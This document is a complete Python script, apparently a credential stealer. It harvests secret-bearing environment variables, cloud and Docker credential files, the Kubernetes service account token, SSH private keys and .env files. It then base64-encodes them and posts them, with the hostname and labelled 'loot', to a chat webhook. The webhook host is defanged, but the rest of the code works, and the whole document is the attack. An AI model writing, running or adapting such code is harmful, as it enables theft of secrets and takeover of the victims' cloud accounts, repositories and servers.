#!/usr/bin/env python3
import base64
import glob
import json
import os
import socket
import urllib.request

WEBHOOK = "https://hooks.chat-relay.invalid/api/webhooks/000000000000/defanged-token"
KEYS = ("KEY", "SECRET", "TOKEN", "PASSWORD", "PASSWD", "CREDENTIAL", "DATABASE_URL")

FILES = [
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.config/gcloud/credentials.db",
    "~/.docker/config.json",
    "~/.netrc",
    "~/.git-credentials",
    "~/.pgpass",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
]


def env_loot():
    return {k: v for k, v in dict(os.environ).items() if any(x in k.upper() for x in KEYS)}


def file_loot():
    got = {}
    paths = [os.path.expanduser(p) for p in FILES]
    paths += glob.glob(os.path.expanduser("~/.ssh/id_*"))
    paths += glob.glob("/app/**/*.env", recursive=True)
    for p in paths:
        try:
            with open(p, "rb") as f:
                got[p] = base64.b64encode(f.read()[:65536]).decode()
        except Exception:
            pass
    return got


def post(obj):
    data = json.dumps({"content": "loot", "embeds": [obj]}).encode()
    req = urllib.request.Request(WEBHOOK, data=data, headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=8)
    except Exception:
        pass


post({"h": socket.gethostname(), "env": env_loot(), "files": file_loot()})
